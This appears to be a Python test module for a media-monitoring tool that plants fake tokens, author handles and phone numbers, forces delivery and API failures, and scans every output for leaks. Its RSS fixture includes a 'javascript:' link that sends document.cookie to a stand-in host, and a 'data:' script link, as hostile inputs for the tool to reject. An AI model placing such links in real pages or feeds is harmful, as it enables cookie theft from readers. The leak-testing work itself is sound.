"""The secrets scan: the real flows, with planted secrets, through failures; then every output is read.

Planted: every credential the settings can hold (Telegram and Zalo tokens, a Slack webhook URL, the
webhook HMAC secret, the SMTP password, an Elasticsearch API key, Facebook and YouTube credentials,
a Bluesky app password, the pseudonymisation key, a token in a feed URL), raw author identifiers
(handles with and without @, percent-encoded names, numeric ids, in mapped and unmapped export
columns and in post URLs), and phone numbers and e-mail addresses inside posts.

Failures exercised: a dead Telegram endpoint, a Slack receiver that refuses (400), a Zalo receiver
that fails every attempt (503), a dead SMTP server, a Graph API that echoes the token in its error,
a YouTube API that redirects to another port, a feed URL that answers 404 with its token in the
URL, feed links that are ``javascript:`` and ``data:``.

Outputs read: the log (DEBUG), every command's stdout/stderr (run, status, status --json, alerts
list/outbox, search, summary, export jsonl/csv, digest --send --out), every file under the data
folder (webhook outbox and dead letters, digest outbox ``.eml`` decoded and its sidecar), the
SQLite file and its WAL, the exported files, the digest files, the bodies the webhook receivers
got, and the embedded dashboards' pages (the dashboard, each chart's query, the documents, state,
runs and alerts tables, and SQL that tries to group by author_key).

Credentials and author identifiers must appear in none of them. Phone numbers and e-mail addresses
are part of the posts, so they are stored (the SQLite file, exports, search); they must not appear
in what is sent or shown as an alert or digest (webhook bodies, outbox files, alert records and
lists, the digest).
"""

from __future__ import annotations

import contextlib
import email
import functools
import io
import json
import logging
import socket
import sqlite3
import subprocess
import sys
import urllib.error
import urllib.parse
import urllib.request
from dataclasses import dataclass, field
from datetime import timedelta
from email import policy
from pathlib import Path
from typing import Iterator

from typer.testing import CliRunner

from mediawatch.document import utcnow
from mediawatch.store import open_store
from tests.support.serving import stop, wait_until_serving

CREDENTIALS = {
    "telegram_token": "7123456789:AAFplantedTelegramBotToken_x1",
    "zalo_token": "zalo-planted-oa-access-token-7f3a9c",
    "slack_url_secret": "PlantedSlackSecret0123456789abcd",
    "webhook_hmac_secret": "planted-hmac-secret-for-json-hook",
    "smtp_password": "planted-smtp-password-Q9",
    "es_api_key": "planted-es-api-key-base64==",
    "facebook_token": "EAAplantedFacebookPageToken1234567890",
    "youtube_key": "AIzaPlantedYouTubeKey_0123456789abcdefghij",
    "bluesky_app_password": "plnt-bsky-app-pass-1234",
    "pseudonymisation_key": "planted-pseudonymisation-key-3b9e7d1c",
    "feed_token": "plantedFeedToken31337",
}
AUTHORS = {
    "handle_with_at": "@bimat.nguyen88",
    "handle": "bimat.nguyen88",
    "name_percent": "nguy%E1%BB%85n.b%C3%AD.m%E1%BA%ADt",
    "name": "Nguyễn Bí Mật",
    "numeric_id": "100044455566677",
    "unmapped_username": "rieng.tu.tran",
    "commenter_id": "100099988877766",
}
PERSONAL = {"phone": "0912 345 678", "phone_intl": "+84 98.765.4321", "email": "lienhe.vodap2024@gmail.com"}


@dataclass
class ScanResult:
    outputs: dict[str, int] = field(default_factory=dict)  # output -> characters read
    found: list[tuple[str, str, str]] = field(default_factory=list)  # (kind, name, output)
    exit_codes: dict[str, int] = field(default_factory=dict)
    failures: list[str] = field(default_factory=list)  # what went wrong, as the system reported it
    author_groups: int = 0  # rows of a GROUP BY author_key through Datasette (1 = all NULL)

    @property
    def planted(self) -> int:
        return len(CREDENTIALS) + len(AUTHORS) + len(PERSONAL)


def _closed_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def _spellings(value: str) -> set[str]:
    """How a value can be written in an output: as is, JSON-escaped, percent-encoded, HTML-escaped."""
    import html

    out = {value, json.dumps(value)[1:-1], urllib.parse.quote(value, safe=""), urllib.parse.quote(value),
           html.escape(value), value.encode("ascii", "backslashreplace").decode("ascii")}
    if ":" in value:
        out.add(value.split(":", 1)[1])  # the secret half of a Telegram token
    return {s for s in out if len(s) >= 6}


def _export_rows(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line.strip()]


def _decoded_eml(path: Path) -> str:
    message = email.message_from_bytes(path.read_bytes(), policy=policy.default)
    parts = [str(message["Subject"] or "")]
    for part in message.walk():
        if part.get_content_maintype() == "text":
            parts.append(part.get_content())
    return "\n".join(parts)


@contextlib.contextmanager
def _fast_retries() -> Iterator[None]:
    """Retries as in production, without the seconds of backoff between them."""
    from mediawatch.flows.delivery import webhooks
    from mediawatch.flows.reports import digest

    saved = webhooks.deliver, digest.run_digest
    webhooks.deliver = functools.partial(saved[0], backoff_s=0.02)
    digest.run_digest = functools.partial(saved[1], backoff_s=0.02)
    try:
        yield
    finally:
        webhooks.deliver, digest.run_digest = saved


def _config(work: Path, *, graph: str, youtube: str, feed: str, slack: str, zalo: str, json_hook: str) -> str:
    c = CREDENTIALS
    return f'''data_dir = "data"
[store]
url = "sqlite:///mw.db"
api_key = "{c['es_api_key']}"
[crawl]
allow_private_hosts = ["127.0.0.1"]
per_host_delay_s = 0
retries = 0
timeout_s = 5
obey_robots = false
[privacy]
pseudonymisation_key = "{c['pseudonymisation_key']}"
[social]
facebook_access_token = "{c['facebook_token']}"
facebook_api_base = "{graph}"
youtube_api_key = "{c['youtube_key']}"
youtube_api_base = "{youtube}"
bluesky_handle = "office.bsky.social"
bluesky_app_password = "{c['bluesky_app_password']}"
max_retry_wait_s = 1
max_retries = 0
[smtp]
host = "127.0.0.1"
port = {_closed_port()}
security = "none"
username = "office"
password = "{c['smtp_password']}"
timeout_s = 2
[digest]
recipients = ["lanhdao@so.example.vn"]
[classifiers]
filter_to_province = false
[[alerts.rules]]
name = "tang-dot-bien-mxh"
type = "spike"
source_kind = "social"
min_count = 1
[[webhooks]]
name = "tg"
url = "http://127.0.0.1:{_closed_port()}"
format = "telegram"
token = "{c['telegram_token']}"
options = {{ chat_id = -100123 }}
[[webhooks]]
name = "slack"
url = "{slack}/services/T0PLANT/B0PLANT/{c['slack_url_secret']}"
format = "slack"
[[webhooks]]
name = "zalo"
url = "{zalo}/v3.0/oa/group/message"
format = "zalo"
token = "{c['zalo_token']}"
options = {{ group_id = "g1" }}
[[webhooks]]
name = "van-phong"
url = "{json_hook}/hook"
secret = "{c['webhook_hmac_secret']}"
[[sources]]
id = "fb"
kind = "social"
type = "facebook"
options = {{ pages = ["soyte.laocai", "trang-loi"] }}
[[sources]]
id = "yt"
kind = "social"
type = "youtube"
options = {{ keywords = ["Lào Cai"], comments = false }}
[[sources]]
id = "rss"
url = "{feed}/rss?token={c['feed_token']}"
[[sources]]
id = "rss-links"
url = "{feed}/links.rss"
options = {{ fetch_articles = false }}
[[sources]]
id = "xuat-file"
kind = "social"
type = "file"
options = {{ path = "export.jsonl", platform = "facebook", mapping = {{ id = "id", text = "text", url = "url", published_at = "time", author = "owner.id", author_handle = "owner.handle", likes = "likes" }} }}
'''


def _export_file(work: Path) -> None:
    now = utcnow()
    a, p = AUTHORS, PERSONAL
    rows = [
        {"id": "p1", "text": f"Vỡ đập ở Văn Chấn? Gọi {p['phone']} để hỏi", "likes": 90,
         "url": f"https://www.facebook.com/{a['handle']}/posts/1001",
         "owner": {"id": a["numeric_id"], "handle": a["handle_with_at"]}},
        {"id": "p2", "text": f"Tin vỡ đập: liên hệ {p['email']} hoặc {p['phone_intl']}", "likes": 80,
         "url": f"https://www.facebook.com/{a['name_percent']}/posts/1002",
         "owner": {"id": "100000000000002", "handle": "@khac", "display": a["name"]}},
        {"id": "p3", "text": "Đập thủy điện xả lũ, người dân lo lắng", "likes": 70,
         "url": f"https://www.facebook.com/{a['numeric_id']}/posts/1003",
         "owner": {"id": "100000000000003", "username": a["unmapped_username"], "uid": a["numeric_id"]}},
        {"id": "p4", "text": "Mưa lớn ở Mù Cang Chải", "likes": 60,
         "url": f"https://m.facebook.com/{a['unmapped_username']}/posts/1004",
         "owner": {"id": "100000000000004", "username": a["unmapped_username"]}},
        {"id": "p5", "text": "Sạt lở trên quốc lộ 32", "likes": 50,
         "url": "https://www.facebook.com/permalink.php?story_fbid=1005&id=2030405060",
         "owner": {"id": "100000000000005"}},
    ]
    lines = []
    for i, row in enumerate(rows):
        row["time"] = (now - timedelta(minutes=5 + i)).isoformat()
        lines.append(json.dumps(row, ensure_ascii=False))
    (work / "export.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")


LINKS_RSS = """<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>T</title>
<item><title>JS</title><link>javascript:fetch('//x/'+document.cookie)</link><description>a</description></item>
<item><title>Data</title><link>data:text/html,&lt;script&gt;1&lt;/script&gt;</link><description>b</description></item>
<item><title>Web</title><link>https://bao.test/tin-1.html</link><description>Tin thường</description></item>
</channel></rss>""".encode("utf-8")


def _get(url: str) -> str:
    try:
        with urllib.request.urlopen(url, timeout=30) as response:
            return response.read().decode("utf-8", "replace")
    except urllib.error.HTTPError as exc:
        body = exc.read().decode("utf-8", "replace")
        exc.close()
        return body


def _dashboards(db: Path, work: Path, result: ScanResult) -> dict[str, str]:
    """Serve the dashboards as an analyst does and read its pages."""
    from mediawatch.dashboards.datasette_config import metadata
    from mediawatch.dashboards.serve import view_options
    from datasette_dashboards import replace_opts_in_query

    port = _closed_port()
    proc = subprocess.Popen([str(Path(sys.executable).parent / "mediawatch"), "dashboards", "serve", "--db", str(db),
                             "--port", str(port)], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, cwd=work)
    base = f"http://127.0.0.1:{port}"
    pages: dict[str, str] = {}
    try:
        wait_until_serving(proc, [base + "/-/versions.json"], timeout_s=60,
                           log=lambda: proc.stderr.read().decode() if proc.stderr else "")
        name = db.stem
        options = view_options(db)
        params = {"date_start": options.date_start.isoformat(), "date_end": options.date_end.isoformat()}
        pages["dashboard"] = _get(f"{base}/-/dashboards/mediawatch?" + urllib.parse.urlencode(params))
        charts = metadata(options)["plugins"]["datasette-dashboards"]["mediawatch"]["charts"]
        for chart_id, chart in charts.items():
            sql = replace_opts_in_query(chart["query"], params)
            pages[f"chart {chart_id}"] = _get(f"{base}/{name}.json?" + urllib.parse.urlencode(
                {"sql": sql, **params, "_shape": "objects"}))
        for table in ("documents", "state", "runs", "alerts"):
            pages[f"table {table}"] = _get(f"{base}/{name}/{table}.json?_shape=objects&_size=max")
            pages[f"table {table} html"] = _get(f"{base}/{name}/{table}")
        grouped = _get(f"{base}/{name}.json?" + urllib.parse.urlencode({
            "sql": "SELECT json_extract(body, '$.author_key') AS who, count(*) AS n FROM documents GROUP BY who",
            "_shape": "objects"}))
        pages["sql group by author_key"] = grouped
        rows = json.loads(grouped).get("rows", [])
        result.author_groups = len(rows) if all(r.get("who") is None for r in rows) else -len(rows)
        pages["sql select body"] = _get(f"{base}/{name}.json?" + urllib.parse.urlencode(
            {"sql": "SELECT id, body FROM documents", "_shape": "objects"}))
    finally:
        stop(proc)
        if proc.stderr:
            pages["dashboards server log"] = proc.stderr.read().decode("utf-8", "replace")
            proc.stderr.close()
    return pages


def run_scenario(work: Path, *, dashboards: bool = True) -> ScanResult:
    """Run the flows with planted secrets through failures and scan every output."""
    from mediawatch.app.cli import app
    from tests.social_servers.base import Reply
    from tests.social_servers.facebook import FakeGraph, graph_error
    from tests.social_servers.youtube import FakeYouTube
    from tests.support.httpserver import StaticSite
    from tests.test_webhooks import Receiver

    result = ScanResult()
    work.mkdir(parents=True, exist_ok=True)
    _export_file(work)
    log_buffer = io.StringIO()
    handler = logging.StreamHandler(log_buffer)
    handler.setLevel(logging.DEBUG)
    handler.setFormatter(logging.Formatter("%(levelname)s %(name)s: %(message)s"))
    root = logging.getLogger()
    old_level = root.level
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    receivers = {name: Receiver() for name in ("slack", "zalo", "json")}
    receivers["slack"].script = ["refuse"]
    receivers["zalo"].script = ["fail"] * 3
    graph, youtube = FakeGraph(pages={"soyte.laocai": 3}), FakeYouTube(videos=2, comments_per_video=0)
    outputs: dict[str, str] = {}
    try:
        with graph, youtube, StaticSite() as elsewhere, StaticSite() as feeds, _fast_retries():
            c = CREDENTIALS
            graph.comments.clear()
            graph.fail_next("/trang-loi/posts", graph_error(
                f"Invalid OAuth access token: {c['facebook_token']} (also sent as access_token="
                f"{c['facebook_token']})", 190), times=3)
            elsewhere.routes["/search"] = (200, {"Content-Type": "application/json"}, b'{"items": []}')
            youtube.fail_next("/search", Reply(302, b"", {"Location": f"{elsewhere.url}/search"}))
            feeds.routes["/links.rss"] = (200, {"Content-Type": "application/rss+xml"}, LINKS_RSS)
            config = work / "mediawatch.toml"
            config.write_text(_config(work, graph=graph.base, youtube=youtube.base, feed=feeds.url,
                                      slack=receivers["slack"].url, zalo=receivers["zalo"].url,
                                      json_hook=receivers["json"].url), encoding="utf-8")
            runner = CliRunner()
            base = ["-c", str(config), "-v"]
            commands = {
                "run": ["run", "--no-classify"],
                "status": ["status"], "status --json": ["status", "--json"],
                "alerts list": ["alerts", "list", "--json"], "alerts outbox": ["alerts", "outbox"],
                "search": ["search", "đập", "--json"], "summary": ["summary", "--format", "json"],
                "export jsonl": ["export", "--out", str(work / "export-out.jsonl")],
                "export csv": ["export", "--format", "csv", "--out", str(work / "export-out.csv")],
                "digest": ["digest", "--send", "--out", str(work / "digest.html")],
            }
            for name, args in commands.items():
                invoked = runner.invoke(app, base + args)
                result.exit_codes[name] = invoked.exit_code
                outputs[f"command {name}"] = invoked.output + (f"\n{invoked.exception!r}" if invoked.exception
                                                               and not isinstance(invoked.exception, SystemExit)
                                                               else "")
            elsewhere_requests = list(elsewhere.requests)
        for name, receiver in receivers.items():
            outputs[f"webhook body {name}"] = "\n".join(r["body"].decode("utf-8", "replace") for r in receiver.received)
        outputs["redirect target requests"] = json.dumps(elsewhere_requests, ensure_ascii=False)
    finally:
        for receiver in receivers.values():
            receiver.close()
        root.removeHandler(handler)
        root.setLevel(old_level)
    outputs["log"] = log_buffer.getvalue()
    for path in sorted((work / "data").rglob("*")):
        if path.is_file():
            text = _decoded_eml(path) if path.suffix == ".eml" else path.read_text(encoding="utf-8", errors="replace")
            outputs[f"file {path.relative_to(work)}"] = text
    for name in ("mw.db", "mw.db-wal", "export-out.jsonl", "export-out.csv", "digest.html", "digest.txt"):
        path = work / name
        if path.exists():
            outputs[f"file {name}"] = path.read_bytes().decode("utf-8", errors="replace")
    with sqlite3.connect(work / "mw.db") as conn:
        outputs["alert records"] = json.dumps(conn.execute("SELECT title, payload FROM alerts").fetchall(),
                                              ensure_ascii=False)
    if dashboards:
        for name, page in _dashboards(work / "mw.db", work, result).items():
            outputs[f"dashboards {name}"] = page
    result.outputs = {name: len(text) for name, text in outputs.items()}
    with open_store(f"sqlite:///{work / 'mw.db'}") as store:
        latest = (store.run_summaries(limit=1) or [{}])[0]
    result.failures = [f"{sid}: {', '.join(sorted(errs))}" for sid, errs in (latest.get("errors") or {}).items()]
    result.failures.append(f"deliveries: {json.dumps(latest.get('deliveries', {}).get('errors', []))[:400]}")
    # Where each kind of planted value must not appear.
    alert_outputs = [n for n in outputs if n.startswith(("webhook body", "alert records", "command alerts",
                                                         "command digest", "file digest", "file data/outbox"))]
    for kind, values, where in (("credential", CREDENTIALS, list(outputs)), ("author", AUTHORS, list(outputs)),
                                ("personal", PERSONAL, alert_outputs)):
        for name, value in values.items():
            for output in where:
                text = outputs[output]
                if any(spelling in text for spelling in _spellings(value)):
                    result.found.append((kind, name, output))
    return result


if __name__ == "__main__":  # pragma: no cover - a manual run prints what it saw
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        print(run_scenario(Path(tmp)))
